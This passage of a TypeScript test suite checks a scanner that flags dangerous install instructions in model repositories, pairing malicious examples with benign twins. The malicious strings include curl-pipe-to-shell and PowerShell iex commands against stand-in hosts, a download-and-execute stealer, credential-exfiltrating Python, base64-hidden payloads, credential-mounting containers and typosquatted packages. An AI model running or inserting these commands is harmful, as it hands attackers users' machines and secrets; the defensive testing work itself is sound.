// Every form an instruction can take, one test each way: the malicious shape produces the named finding at the
// named severity; its legitimate twin produces nothing a reviewer must act on (or exactly the note named).
// Sources are strings, never executed.
import type { Severity } from '../../../src/core/findings.js';
import { verdictOf } from '../../../src/core/findings.js';
import { runContentChecks } from '../../../src/checks/content/index.js';
import type { PublisherFacts } from '../../../src/checks/content/types.js';
import { notable, repoOf, summary } from './repo.js';

const STEALER = 'import os, urllib.request, stat, subprocess\np = "/tmp/.rt"\nurllib.request.urlretrieve("https://cdn.x.invalid/rt", p)\nos.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)\nsubprocess.Popen([p])\n';
const BENIGN = 'import argparse\np = argparse.ArgumentParser()\np.add_argument("--setup", action="store_true")\nprint(p.parse_args())\n';
const ELF = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array<number>(8).fill(0), 2, 0, 0x3e, 0, ...new Array<number>(44).fill(0)]);
const nb = (cells: [type: 'markdown' | 'code', src: string][]): string => JSON.stringify({
  nbformat: 4, nbformat_minor: 5, metadata: {},
  cells: cells.map(([type, c]) => ({ cell_type: type, metadata: {}, ...(type === 'code' ? { outputs: [], execution_count: null } : {}), source: c.split('\n').map((l, i, a) => (i < a.length - 1 ? `${l}\n` : l)) }))
}, null, 1);

type Files = Record<string, string | Uint8Array>;
type Expect = [check: string, severity: Severity, file?: string] | 'quiet' | ['only', check: string, severity: Severity];

function run(files: Files, publisher?: PublisherFacts) {
  const repo = repoOf(files);
  return runContentChecks(publisher ? { ...repo, publisher } : repo);
}

function expectCase(files: Files, expected: Expect, publisher?: PublisherFacts): void {
  const found = run(files, publisher);
  if (expected === 'quiet') {
    expect(summary(notable(found))).toBe('');
    return;
  }
  if (expected[0] === 'only') {
    expect(notable(found).map((f) => `${f.check} ${f.severity}`)).toEqual([`${expected[1]} ${expected[2]}`]);
    return;
  }
  const [check, severity, file] = expected;
  const hit = found.find((f) => f.check === check && f.severity === severity && (file === undefined || f.file === file));
  if (!hit) throw new Error(`expected ${severity} ${check}${file ? ` on ${file}` : ''}; got:\n${summary(found)}`);
}

const CURL_SH = 'curl -fsSL https://x.invalid/i.sh | sh';

// [form, malicious files, its finding, legitimate twin, what the twin gets]
const FORMS: [string, Files, Expect, Files, Expect][] = [
  // ── project files a one-word command runs ──
  ['just RECIPE (justfile)', { 'README.md': '```bash\njust setup\n```\n', justfile: `setup: deps\n    @echo setting up\n\ndeps:\n    ${CURL_SH}\n\ntest:\n    python -m pytest -q\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash\njust test\n```\n', justfile: `setup:\n    ${CURL_SH}\n\ntest:\n    python -m pytest -q\n` }, ['only', 'instructions.run-repo-script', 'medium']],
  ['npm install (package.json postinstall)', { 'README.md': '```bash\nnpm install\nnpm run demo\n```\n', 'package.json': JSON.stringify({ name: 'x', scripts: { postinstall: CURL_SH, demo: 'node demo.js' } }) }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash\nnpm install\n```\n', 'package.json': JSON.stringify({ name: 'x', scripts: { build: CURL_SH }, dependencies: { '@huggingface/transformers': '^3.1.0' } }) }, 'quiet'],
  ['pre-commit run (hooks from an unknown repository)', { 'README.md': '```bash\npre-commit install\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': 'repos:\n  - repo: https://github.com/someone/ner-hooks\n    rev: v0.3.1\n    hooks:\n      - id: check-labels\n' }, ['instructions.install-from-url', 'high'],
    { 'README.md': '```bash\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': 'repos:\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v4.6.0\n    hooks:\n      - id: trailing-whitespace\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.6.0\n    hooks:\n      - id: ruff\n' }, 'quiet'],
  ['pre-commit local system hook', { 'README.md': '```bash\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': `repos:\n  - repo: local\n    hooks:\n      - id: fetch\n        name: fetch\n        entry: bash -c '${CURL_SH}'\n        language: system\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': 'repos:\n  - repo: local\n    hooks:\n      - id: pytest\n        name: pytest\n        entry: python -m pytest -q\n        language: system\n' }, ['only', 'instructions.run-repo-script', 'medium']],
  ['docker compose up (compose file mounting credentials)', { 'README.md': '```bash\ndocker compose up -d\n```\n', 'docker-compose.yml': 'services:\n  ner:\n    image: ghcr.io/someone/ner-server:latest\n    ports:\n      - "8080:8080"\n    volumes:\n      - ~/.aws:/root/.aws:ro\n' }, ['instructions.container', 'critical'],
    { 'README.md': '```bash\ndocker compose up -d\n```\n', 'docker-compose.yml': 'services:\n  tgi:\n    image: ghcr.io/huggingface/text-generation-inference:3.0\n    volumes:\n      - ~/.cache/huggingface:/data\n    environment:\n      - MODEL_ID=org/m\n' }, 'quiet'],
  ['direnv allow (.envrc)', { 'README.md': '```bash\ndirenv allow\n```\n', '.envrc': `export HF_HUB_ENABLE_HF_TRANSFER=1\n${CURL_SH}\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash\ndirenv allow\n```\n', '.envrc': 'export HF_HUB_ENABLE_HF_TRANSFER=1\nlayout python3\n' }, ['only', 'instructions.run-repo-script', 'medium']],
  ['diffusers custom_pipeline= another repository', { 'README.md': '```python\nfrom diffusers import DiffusionPipeline\npipe = DiffusionPipeline.from_pretrained(\n    "org/m",\n    custom_pipeline="someone/fast-pipeline",\n)\n```\n' }, ['instructions.remote-code', 'high'],
    { 'README.md': '```python\nfrom diffusers import DiffusionPipeline\npipe = DiffusionPipeline.from_pretrained("org/m", custom_pipeline="lpw_stable_diffusion")\npipe2 = DiffusionPipeline.from_pretrained("org/m", custom_pipeline="pipelines/inpaint")\n```\n', 'pipelines/inpaint/pipeline.py': 'from diffusers import DiffusionPipeline\n' }, 'quiet'],
  ['diffusers custom_pipeline= URL', { 'README.md': '```python\nfrom diffusers import DiffusionPipeline\nURL = "https://raw.githubusercontent.com/someone/pipes/main/inpaint.py"\npipe = DiffusionPipeline.from_pretrained("org/m", custom_pipeline=URL)\n```\n' }, ['instructions.remote-code', 'high'],
    { 'README.md': '```python\nfrom diffusers import DiffusionPipeline\npipe = DiffusionPipeline.from_pretrained("org/m", custom_pipeline="./local_pipe")\n```\n' }, 'quiet'],
  // ── documents a user is pointed to ──
  ['other markdown (docs/setup.md)', { 'docs/setup.md': `# Setup\n\n\`\`\`bash\n${CURL_SH}\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical', 'docs/setup.md'],
    { 'docs/setup.md': '# Setup\n\n```bash\npip install -U transformers\n```\n' }, 'quiet'],
  ['.rst code-block directive', { 'docs/install.rst': `Install\n=======\n\n.. code-block:: bash\n   :linenos:\n\n   ${CURL_SH}\n\nDone.\n` }, ['instructions.pipe-to-shell', 'critical', 'docs/install.rst'],
    { 'docs/install.rst': 'Install\n=======\n\n.. code-block:: bash\n\n   pip install sentence-transformers\n' }, 'quiet'],
  ['.rst :: literal block', { 'docs/quick.rst': `Run the setup::\n\n    ${CURL_SH}\n\nThen load the model.\n` }, ['instructions.pipe-to-shell', 'critical', 'docs/quick.rst'],
    { 'docs/quick.rst': 'Load it::\n\n    from transformers import AutoModel\n    m = AutoModel.from_pretrained("org/m")\n' }, 'quiet'],
  ['.rst inline literal', { 'docs/notes.rst': `Before use, run \`\`${CURL_SH}\`\` once.\n` }, ['instructions.pipe-to-shell', 'critical', 'docs/notes.rst'],
    { 'docs/notes.rst': 'Before use, run ``pip install accelerate`` once.\n' }, 'quiet'],
  ['INSTALL.txt (indented command)', { 'INSTALL.txt': `Installation\n\n  ${CURL_SH}\n` }, ['instructions.pipe-to-shell', 'critical', 'INSTALL.txt'],
    { 'INSTALL.txt': 'Installation\n\n  pip install -r requirements.txt\n', 'requirements.txt': 'torch\ntransformers\n' }, 'quiet'],
  ['INSTALL (no extension)', { INSTALL: `To install:\n\n    ${CURL_SH}\n` }, ['instructions.pipe-to-shell', 'critical', 'INSTALL'],
    { INSTALL: 'To install:\n\n    pip install .\n' }, 'quiet'],
  ['USAGE prose', { USAGE: 'Usage: bash scripts/start.sh', 'scripts/start.sh': `#!/bin/sh\n${CURL_SH}\n` }, ['instructions.run-repo-script', 'critical', 'USAGE'],
    { USAGE: 'Usage: python infer.py --text hello', 'infer.py': BENIGN }, ['only', 'instructions.run-repo-script', 'medium']],
  ['a .txt the card links to', { 'README.md': 'See [the setup notes](notes/steps.txt).\n', 'notes/steps.txt': `${CURL_SH}\n` }, ['instructions.pipe-to-shell', 'critical', 'notes/steps.txt'],
    { 'README.md': 'See [the notes](notes/steps.txt).\n', 'notes/steps.txt': 'The model was trained for 3 epochs.\n' }, 'quiet'],
  ['a doc linked by its Hub URL', { 'README.md': 'Setup: [guide](https://huggingface.co/org/m/blob/main/docs/steps.html)\n', 'docs/steps.html': `<p>Run this:</p>\n\n    ${CURL_SH}\n` }, ['instructions.pipe-to-shell', 'critical', 'docs/steps.html'],
    { 'README.md': 'Setup: [guide](https://huggingface.co/org/m/blob/main/docs/GUIDE)\n', 'docs/GUIDE': 'Nothing to do.\n' }, 'quiet'],
  ['a .txt nobody points to is not a document', { 'README.md': '# m\n', 'merges.txt': `#version: 0.2\n${CURL_SH}\n` }, 'quiet',
    { 'README.md': '# m\n', 'vocab.txt': 'curl\nsh\n|\n' }, 'quiet'],
  ['a doc named in inline code', { 'README.md': 'Follow `SETUP.txt` first.\n', 'SETUP.txt': `${CURL_SH}\n` }, ['instructions.pipe-to-shell', 'critical', 'SETUP.txt'],
    { 'README.md': 'Follow `SETUP.txt` first.\n', 'SETUP.txt': 'Nothing to set up.\n' }, 'quiet'],
  ['notebook markdown cell', { 'demo.ipynb': nb([['markdown', `First run: \`${CURL_SH}\``], ['code', 'import torch']]) }, ['instructions.pipe-to-shell', 'critical', 'demo.ipynb'],
    { 'demo.ipynb': nb([['markdown', 'First run: `pip install transformers`'], ['code', 'import torch']]) }, 'quiet'],
  ['Makefile target the card runs', { 'README.md': '```bash\nmake setup\n```\n', Makefile: `URL := https://x.invalid/i.sh\nsetup:\n\t@curl -fsSL $(URL) | sh\n` }, ['instructions.pipe-to-shell', 'critical', 'README.md'],
    { 'README.md': '```bash\nmake test\n```\n', Makefile: 'test:\n\tpytest -q\n' }, ['only', 'instructions.run-repo-script', 'medium']],
  ['Makefile prerequisites and variables', {
    'README.md': 'Run `make install` once.\n',
    Makefile: 'PY ?= python3\nBIN = /tmp/.rt\ninstall: fetch\n\t$(PY) -c "print(1)"\nfetch:\n\twget -q -O $(BIN) https://x.invalid/rt\n\tchmod +x $(BIN) && $(BIN)\n'
  }, ['instructions.run-binary', 'critical', 'README.md'],
    { 'README.md': 'Run `make install` once.\n', Makefile: 'PY ?= python3\ninstall: deps\n\t$(PY) -m pip install -e .\ndeps:\n\t$(PY) -m pip install -r requirements.txt\n', 'requirements.txt': 'numpy\n' }, ['only', 'instructions.run-repo-script', 'medium']],
  ['Makefile read as a script', { Makefile: `setup:\n\t${CURL_SH}\n` }, ['shell.pipe-to-shell', 'critical', 'Makefile'],
    { Makefile: 'lint:\n\truff check .\n' }, 'quiet'],
  ['Makefile $(shell …) runs on every make', { 'README.md': '`make`\n', Makefile: `V := $(shell ${CURL_SH})\nall:\n\techo $(V)\n` }, ['instructions.pipe-to-shell', 'critical', 'README.md'],
    { 'README.md': '`make`\n', Makefile: 'V := $(shell git describe --tags)\nall:\n\techo $(V)\n' }, ['only', 'instructions.run-repo-script', 'medium']],
  ['docker build of the repository\'s Dockerfile', { 'README.md': '```bash\ndocker build -t pf .\n```\n', Dockerfile: `FROM python:3.11\nRUN pip install -r requirements.txt && \\\n    ${CURL_SH}\n` }, ['instructions.pipe-to-shell', 'critical', 'README.md'],
    { 'README.md': '```bash\ndocker build -t pf .\n```\n', Dockerfile: 'FROM python:3.11\nRUN pip install transformers\n' }, ['only', 'instructions.run-repo-script', 'medium']],
  ['Dockerfile read as a script', { 'docker/Dockerfile': `FROM ubuntu:24.04\nRUN ${CURL_SH}\n` }, ['shell.pipe-to-shell', 'critical', 'docker/Dockerfile'],
    { 'docker/Dockerfile': 'FROM ubuntu:24.04\nRUN apt-get update && apt-get install -y git\n' }, 'quiet'],
  ['shell script the card runs', { 'README.md': '```\nbash setup.sh\n```\n', 'setup.sh': `#!/bin/bash\n${CURL_SH}\n` }, ['instructions.run-repo-script', 'critical'],
    { 'README.md': '```\nbash setup.sh\n```\n', 'setup.sh': '#!/bin/bash\npip install -r requirements.txt\n', 'requirements.txt': 'torch\n' }, ['only', 'instructions.run-repo-script', 'medium']],
  // ── fence languages that run a shell ──
  ['fence: fish (| source)', { 'README.md': '```fish\ncurl -sL https://x.invalid/i.fish | source\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```fish\nset -gx HF_HOME ~/hf\npip install transformers\n```\n' }, 'quiet'],
  ['fence: fish (eval (curl …))', { 'README.md': '```fish\neval (curl -s https://x.invalid/env.fish)\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```fish\necho (date)\n```\n' }, 'quiet'],
  ['fence: shellscript', { 'README.md': `\`\`\`shellscript\n${CURL_SH}\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```shellscript\npip install peft\n```\n' }, 'quiet'],
  ['fence: zsh', { 'README.md': `\`\`\`zsh\n${CURL_SH}\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'], { 'README.md': '```zsh\npip install trl\n```\n' }, 'quiet'],
  ['fence: info string with attributes', { 'README.md': `\`\`\`{.bash .numberLines}\n${CURL_SH}\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash title="install"\npip install peft\n```\n' }, 'quiet'],
  ['fence: inside a list item and a block quote', { 'README.md': `1. Install:\n\n      \`\`\`bash\n      ${CURL_SH}\n      \`\`\`\n\n> \`\`\`sh\n> ${CURL_SH}\n> \`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '1. Install:\n\n      ```bash\n      pip install peft\n      ```\n' }, 'quiet'],
  ['fence: console with $ prompts', { 'README.md': `\`\`\`console\n$ ${CURL_SH}\ninstalled\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': `\`\`\`console\n$ pip install transformers\nSuccessfully installed (see ${CURL_SH})\n\`\`\`\n` }, 'quiet'],
  ['fence: shell-session with user@host prompts', { 'README.md': `\`\`\`shell-session\nuser@box:~$ ${CURL_SH}\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```shell-session\nuser@box:~$ nvidia-smi\n```\n' }, 'quiet'],
  ['fence: pwsh', { 'README.md': '```pwsh\niwr https://x.invalid/i.ps1 | iex\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```pwsh\npip install transformers\n```\n' }, 'quiet'],
  ['fence: ps1', { 'README.md': '```ps1\nInvoke-Expression (Invoke-WebRequest https://x.invalid/i.ps1).Content\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```ps1\n$env:HF_HOME = "D:\\hf"\n```\n' }, 'quiet'],
  ['fence: bat/cmd', { 'README.md': '```bat\ncertutil -urlcache -split -f https://x.invalid/a.exe a.exe && a.exe\n```\n' }, ['instructions.run-binary', 'critical'],
    { 'README.md': '```cmd\nset HF_HOME=D:\\hf\npip install transformers\n```\n' }, 'quiet'],
  ['fence: unlabeled with commands', { 'README.md': `\`\`\`\n${CURL_SH}\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```\n{"label": "curl | sh", "score": 0.9}\n```\n' }, 'quiet'],
  ['fence: dockerfile RUN', { 'README.md': `\`\`\`dockerfile\nFROM python:3.11\nRUN ${CURL_SH}\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```dockerfile\nFROM python:3.11\nRUN pip install transformers\n```\n' }, 'quiet'],
  ['html <pre> block', { 'README.md': `<pre><code class="language-bash">${CURL_SH.replace('|', '&#124;').replace('&#124;', '|')}\n</code></pre>\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '<pre><code>pip install transformers\n</code></pre>\n' }, 'quiet'],
  // ── inline code and prose ──
  ['prose after a full-width colon', { 'README.md': '## 快速开始\n\n运行：python scripts/preprocess.py --setup\n', 'scripts/preprocess.py': STEALER }, ['instructions.run-repo-script', 'critical'],
    { 'README.md': '## 快速开始\n\n运行：python scripts/preprocess.py --setup\n', 'scripts/preprocess.py': BENIGN }, ['only', 'instructions.run-repo-script', 'medium']],
  ['prose after a colon', { 'README.md': 'Setup: bash install.sh', 'install.sh': `#!/bin/sh\n${CURL_SH}\n` }, ['instructions.run-repo-script', 'critical'],
    { 'README.md': 'Setup: pip install transformers, then load the model.' }, 'quiet'],
  ['prose after "run"', { 'README.md': `To finish, run ${CURL_SH} and restart.` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': 'To finish, run python -m pip install peft and restart.' }, 'quiet'],
  ['prose: a command word mid-sentence is not a command', { 'README.md': 'Then run: npx privacy-filter-setup\n' }, ['instructions.package-runner', 'high'],
    { 'README.md': 'Use npx or uvx to run tools, and docker run is how the server starts; pipx installs apps.\n' }, 'quiet'],
  ['prose in numbered steps', { 'README.md': `1. Create a venv.\n2. ${CURL_SH}\n3. Done.\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '1. Create a venv.\n2. pip install transformers\n3. Done.\n' }, 'quiet'],
  ['python -c analysed as Python', { 'README.md': '```bash\npython -c "import os; os.system(\'curl -s https://x.invalid/a | sh\')"\n```\n' }, ['code.download-exec', 'critical'],
    { 'README.md': '```bash\npython -c "import torch; print(torch.cuda.is_available())"\n```\n' }, 'quiet'],
  ['python -c in inline code', { 'README.md': 'Check with `python3 -c "import base64,os;exec(base64.b64decode(\'b3Muc3lzdGVtKCJpZCIp\'))"`.\n' }, ['code.dynamic-exec', 'critical'],
    { 'README.md': 'Check with `python3 -c "import transformers; print(transformers.__version__)"`.\n' }, 'quiet'],
  ['python - <<EOF here-document', { 'README.md': '```bash\npython - <<\'EOF\'\nimport os, requests\nrequests.post("https://c.invalid/x", data=open(os.path.expanduser("~/.aws/credentials")).read())\nEOF\n```\n' }, ['code.credentials', 'critical'],
    { 'README.md': '```bash\npython - <<\'EOF\'\nfrom transformers import pipeline\nprint(pipeline("fill-mask", model="org/m")("Hi [MASK]"))\nEOF\n```\n' }, 'quiet'],
  ['cat > file <<EOF then run it', { 'README.md': `\`\`\`bash\ncat > go.sh <<'EOF'\n${CURL_SH}\nEOF\nbash go.sh\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash\ncat > config.yaml <<EOF\nmodel: org/m\nEOF\n```\n' }, 'quiet'],
  ['bash -c "…"', { 'README.md': `\`\`\`\nbash -c "${CURL_SH}"\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```\nbash -c "pip install transformers && python -V"\n```\n' }, 'quiet'],
  ['sh <(curl …)', { 'README.md': '```bash\nsh <(curl -s https://x.invalid/i.sh)\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash\ndiff <(sort a.txt) <(sort b.txt)\n```\n' }, 'quiet'],
  ['eval "$(curl …)"', { 'README.md': '```bash\neval "$(curl -fsSL https://x.invalid/env)"\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash\neval "$(conda shell.bash hook)"\n```\n' }, 'quiet'],
  // ── what commands fetch and mount ──
  ['huggingface-cli download then chmod +x (another repo)', { 'README.md': '```bash\nhuggingface-cli download tools-org/runtime pf-runtime --local-dir . && chmod +x pf-runtime && ./pf-runtime\n```\n' }, ['instructions.run-binary', 'critical'],
    { 'README.md': '```bash\nhuggingface-cli download org/model --local-dir ./model\n```\n' }, 'quiet'],
  ['hf download then run', { 'README.md': '```bash\nhf download tools-org/runtime setup.sh --local-dir /tmp/x\nbash /tmp/x/setup.sh\n```\n' }, ['instructions.run-binary', 'critical'],
    { 'README.md': '```bash\nhf download org/model model.safetensors --local-dir ./m\n```\n' }, 'quiet'],
  ['docker run mounting ~/.aws into an unknown image', { 'README.md': '```bash\ndocker run --rm -v ~/.aws:/root/.aws openoss/pf-runtime:latest\n```\n' }, ['instructions.container', 'critical'],
    { 'README.md': '```bash\nvolume=$PWD/data\ndocker run --gpus all --shm-size 1g -p 8080:80 -v $volume:/data ghcr.io/huggingface/text-generation-inference:2.4 --model-id org/m\n```\n' }, 'quiet'],
  ['docker run with the HF cache and token into an unknown image', { 'README.md': '```bash\ndocker run -v ~/.cache/huggingface:/root/.cache/huggingface -e HF_TOKEN=$HF_TOKEN someone/fast-serve\n```\n' }, ['instructions.container', 'critical'],
    { 'README.md': '```bash\ndocker run --runtime nvidia --gpus all -v ~/.cache/huggingface:/root/.cache/huggingface --env "HUGGING_FACE_HUB_TOKEN=$HF_TOKEN" -p 8000:8000 --ipc=host vllm/vllm-openai:latest --model org/m\n```\n' }, 'quiet'],
  ['podman run with the Docker socket', { 'README.md': '```bash\npodman run -v /var/run/docker.sock:/var/run/docker.sock quay.io/someone/agent\n```\n' }, ['instructions.container', 'critical'],
    { 'README.md': '```bash\npodman run --rm -it docker.io/library/python:3.11 python -V\n```\n' }, 'quiet'],
  ['docker run --privileged unknown image', { 'README.md': '```bash\ndocker run --privileged someone/gpu-tools\n```\n' }, ['instructions.container', 'high'],
    { 'README.md': '```bash\ndocker run --gpus all -p 8080:8080 ghcr.io/ggml-org/llama.cpp:server -m /models/m.gguf\n```\n' }, 'quiet'],
  ['docker run of a lookalike publisher', { 'README.md': '```bash\ndocker run -p 8080:80 hugginface/text-generation-inference\n```\n' }, ['instructions.container', 'critical'],
    { 'README.md': '```bash\ndocker run -p 8080:80 huggingface/text-generation-inference\n```\n' }, 'quiet'],
  ['docker run of an unknown image, nothing mounted', { 'README.md': '```bash\ndocker run -p 7860:7860 someone/demo-ui\n```\n' }, ['only', 'instructions.container', 'medium'],
    { 'README.md': '```bash\ndocker run -p 11434:11434 ollama/ollama\n```\n' }, 'quiet'],
  ['npx of a package that is not well known', { 'README.md': '```bash\nnpx -y privacy-filter-setup\n```\n' }, ['instructions.package-runner', 'high'],
    { 'README.md': '```bash\nnpx @modelcontextprotocol/inspector\n```\n' }, 'quiet'],
  ['npx of a typosquat', { 'README.md': '```bash\nnpx @modelcontextprotocoI/inspector\n```\n' }, ['instructions.typosquat', 'critical'],
    { 'README.md': '```bash\nnpx -y http-server ./site\n```\n' }, 'quiet'],
  ['uvx of a package that is not well known', { 'README.md': '```bash\nuvx pf-bootstrap --init\n```\n' }, ['instructions.package-runner', 'high'],
    { 'README.md': '```bash\nuvx --from huggingface_hub hf download org/m\n```\n' }, 'quiet'],
  ['uvx of a typosquat', { 'README.md': '```bash\nuvx --from hugginface-hub hf download org/m\n```\n' }, ['instructions.typosquat', 'critical'],
    { 'README.md': '```bash\nuvx ruff check .\n```\n' }, 'quiet'],
  ['pipx run of a package that is not well known', { 'README.md': '```bash\npipx run model-setup-helper\n```\n' }, ['instructions.package-runner', 'high'],
    { 'README.md': '```bash\npipx run black .\n```\n' }, 'quiet'],
  ['bunx from a git source', { 'README.md': '```bash\nbunx github:evil-org/installer\n```\n' }, ['instructions.git-install', 'high'],
    { 'README.md': '```bash\nbunx prettier --check .\n```\n' }, 'quiet'],
  ['pip install of a typosquat in the card', { 'README.md': '```bash\npip install transfomers accelerate\n```\n' }, ['instructions.typosquat', 'critical'],
    { 'README.md': '```bash\npip install transformers accelerate scikit_learn\n```\n' }, 'quiet'],
  ['requirements typosquat (deletion)', { 'requirements.txt': 'torch>=2.1\ntransfomers==4.44.0\n' }, ['requirements.typosquat', 'critical'],
    { 'requirements.txt': 'torch>=2.1\ntransformers==4.44.0\nscikit_learn\nflash_attn\n' }, 'quiet'],
  ['requirements typosquat (insertion)', { 'requirements.txt': 'tourch\n' }, ['requirements.typosquat', 'critical'], { 'requirements.txt': 'torch\ntorchx\n' }, 'quiet'],
  ['requirements typosquat (repeated letter)', { 'requirements.txt': 'numpyy>=1.26\n' }, ['requirements.typosquat', 'critical'], { 'requirements.txt': 'numpy>=1.26\n' }, 'quiet'],
  ['requirements typosquat (hub client)', { 'requirements.txt': 'hugginface_hub\n' }, ['requirements.typosquat', 'critical'], { 'requirements.txt': 'huggingface_hub\nHuggingFace-Hub\n' }, 'quiet'],
  ['requirements typosquat (separators dropped)', { 'requirements.txt': 'scikitlearn\n' }, ['requirements.typosquat', 'critical'], { 'requirements.txt': 'scikit-learn\nscikit.learn\n' }, 'quiet'],
  ['pyproject dependency typosquat', { 'pyproject.toml': '[project]\nname = "x"\nkeywords = ["tourch"]\ndependencies = [\n  "safetensor>=0.4",\n]\n' }, ['requirements.typosquat', 'critical'],
    { 'pyproject.toml': '[project]\nname = "x"\nkeywords = ["tourch"]\ndependencies = [\n  "safetensors>=0.4",\n]\n' }, 'quiet'],
  ['environment.yml pip typosquat', { 'environment.yml': 'name: x\ndependencies:\n  - python=3.11\n  - pip:\n    - acelerate\n' }, ['requirements.typosquat', 'critical'],
    { 'environment.yml': 'name: x\ndependencies:\n  - python=3.11\n  - pytorch\n  - pip:\n    - accelerate\n' }, 'quiet'],
  ['clone-then-install graded as pip install git+', { 'README.md': '```bash\ngit clone https://github.com/evil-org/fast-tok\ncd fast-tok\npip install -e .\n```\n' }, ['instructions.git-install', 'high'],
    { 'README.md': '```bash\ngit clone https://github.com/huggingface/transformers\ncd transformers\npip install -e .\n```\n' }, 'quiet'],
  ['clone-then-setup.py install', { 'README.md': '```bash\ngit clone https://gitlab.invalid/x/kernels.git && cd kernels && python setup.py install\n```\n' }, ['instructions.git-install', 'high'],
    { 'README.md': '```bash\ngit clone https://huggingface.co/org/m && cd m && ls\n```\n' }, 'quiet'],
  ['clone-then-run a script', { 'README.md': '```bash\ngit clone https://github.com/evil-org/tools && bash tools/install.sh\n```\n' }, ['instructions.git-install', 'high'],
    { 'README.md': '```bash\ngit clone https://github.com/evil-org/tools\n```\n' }, 'quiet'],
  ['curl | sh', { 'README.md': `\`\`\`bash\n${CURL_SH}\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash\ncurl -fsSL -o model.gguf https://huggingface.co/org/m/resolve/main/m.gguf\n```\n' }, 'quiet'],
  ['pip package source set by environment or pip config', { 'README.md': '```bash\nexport PIP_EXTRA_INDEX_URL=https://pkgs.evil.invalid/simple\npip install tokenizers\n```\n' }, ['instructions.git-install', 'high'],
    { 'README.md': '```bash\nPIP_INDEX_URL=https://download.pytorch.org/whl/cu121 pip install torch\n```\n' }, 'quiet'],
  ['pip config set global.index-url', { 'README.md': '```bash\npip config set global.index-url https://pkgs.evil.invalid/simple\n```\n' }, ['instructions.git-install', 'high'],
    { 'README.md': '```bash\npip config set global.timeout 60\n```\n' }, 'quiet'],
  ['console continuation lines after a prompt', { 'README.md': '```console\n$ curl -fsSL https://x.invalid/i.sh \\\n>   | sh\nok\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```console\n$ pip install \\\n>   transformers\nSuccessfully installed\n```\n' }, 'quiet'],
  ['HTML entities in prose', { 'README.md': 'Setup: curl&nbsp;-fsSL&nbsp;https://x.invalid/i.sh&nbsp;&#124;&nbsp;sh\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': 'Setup: pip&nbsp;install&nbsp;transformers\n' }, 'quiet'],
  ['Dockerfile RUN with flags and JSON form', { 'README.md': '```dockerfile\nRUN --mount=type=cache,target=/root/.cache curl -s https://x.invalid/a | sh\nRUN ["sh", "-c", "wget -qO- https://x.invalid/b | bash"]\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```dockerfile\nRUN --mount=type=cache,target=/root/.cache pip install transformers\nRUN ["python", "-c", "print(1)"]\n```\n' }, 'quiet'],
  ['Makefile recipe hiding its words in make functions', { 'README.md': '`make setup`\n', Makefile: 'C = $(subst @,,cu@rl)\nsetup:\n\t$(C) -fsSL https://x.invalid/i.sh | $(firstword sh bash)\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '`make setup`\n', Makefile: 'P = $(subst @,,pi@p)\nsetup:\n\t$(P) install -r requirements.txt\n', 'requirements.txt': 'numpy\n' }, ['only', 'instructions.run-repo-script', 'medium']],
  ['decoded text given to an interpreter\'s -c', { 'README.md': '```bash\npython3 -c "$(echo aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLWZzU0wgaHR0cHM6Ly94LmludmFsaWQvaS5zaCB8IHNoJyk= | base64 -d)"\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash\necho "$(echo aGVsbG8gZnJvbSB0aGUgbW9kZWwgY2FyZA== | base64 -d)"\n```\n' }, 'quiet'],
  ['decoded text given to eval (here-string)', { 'README.md': '```bash\neval "$(base64 -d <<< aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLWZzU0wgaHR0cHM6Ly94LmludmFsaWQvaS5zaCB8IHNoJyk=)"\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash\nTOKEN_HINT="$(base64 -d <<< aGVsbG8gZnJvbSB0aGUgbW9kZWwgY2FyZA==)"\n```\n' }, 'quiet'],
  ['a file a Hub download prints, run at once', { 'README.md': '```bash\npython "$(huggingface-cli download other-org/tools setup_env.py)" --all\n```\n' }, ['instructions.run-binary', 'critical'],
